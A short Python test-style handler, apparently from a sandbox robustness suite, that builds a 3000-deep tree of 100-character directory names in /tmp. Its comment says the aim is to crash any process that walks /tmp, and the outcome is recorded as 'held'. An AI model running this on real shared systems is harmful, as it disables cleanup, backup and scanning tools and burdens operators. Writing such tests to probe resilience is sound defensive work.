# Tries: to end whoever walks /tmp, by a tree of folders that is deeper than a path or a stack.
# Ends: held
import os


def handler(pd):
    os.chdir("/tmp")
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    return "held"
